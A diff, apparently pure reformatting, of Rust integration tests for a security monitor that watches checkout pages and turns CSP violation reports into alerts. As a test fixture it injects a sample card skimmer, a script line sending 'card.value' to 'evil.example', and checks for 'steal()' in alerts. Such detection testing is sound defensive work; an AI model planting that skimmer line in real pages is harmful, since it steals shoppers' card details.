@@ -94,7 +94,12 @@ fn payment_pages_are_monitored_and_csp_reports_become_alerts() {
     let base = shop(pages.clone());
     let html = "content-type: text/html\r\ncontent-security-policy: script-src 'self'\r\n";
     set(&pages, "/js/app.js", "", "document.title='shop';");
-    set(&pages, "/checkout", html, &checkout("<script src=/js/app.js></script>"));
+    set(
+        &pages,
+        "/checkout",
+        html,
+        &checkout("<script src=/js/app.js></script>"),
+    );
 
     let dir = tempfile::tempdir().unwrap();
     let data = dir.path().join("data");
@@ -153,7 +158,12 @@ fn payment_pages_are_monitored_and_csp_reports_become_alerts() {
     );
 
     // A skimmer injected into checkout.
-    set(&pages, "/js/skim.js", "", "new Image().src='https://evil.example/?'+card.value");
+    set(
+        &pages,
+        "/js/skim.js",
+        "",
+        "new Image().src='https://evil.example/?'+card.value",
+    );
     set(
         &pages,
         "/checkout",
@@ -213,14 +223,18 @@ fn payment_pages_are_monitored_and_csp_reports_become_alerts() {
         (v.len() >= 2).then_some(v)
     });
     assert!(
-        violations
-            .iter()
-            .any(|a| a["evidence"]["blocked_uri"] == "https://evil.example/x.js"
+        violations.iter().any(
+            |a| a["evidence"]["blocked_uri"] == "https://evil.example/x.js"
                 && a["severity"] == "medium"
-                && a["entity"]["value"] == "shop"),
+                && a["entity"]["value"] == "shop"
+        ),
         "{violations:?}"
     );
-    assert!(violations.iter().any(|a| a["evidence"]["sample"] == "steal()"));
+    assert!(
+        violations
+            .iter()
+            .any(|a| a["evidence"]["sample"] == "steal()")
+    );
 
     // What is not a report is refused, and a flood is shed.
     let r = client()
@@ -250,7 +264,10 @@ fn payment_pages_are_monitored_and_csp_reports_become_alerts() {
         })
         .collect();
     assert!(statuses.contains(&429), "{statuses:?}");
-    assert!(statuses.iter().all(|s| *s == 400 || *s == 429), "{statuses:?}");
+    assert!(
+        statuses.iter().all(|s| *s == 400 || *s == 429),
+        "{statuses:?}"
+    );
 }
 
 #[test]
@@ -267,7 +284,11 @@ fn a_playbook_restores_the_web_root() {
         .arg(&data)
         .output()
         .unwrap();
-    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     let playbook = dir.path().join("restore.yaml");
     std::fs::write(
         &playbook,
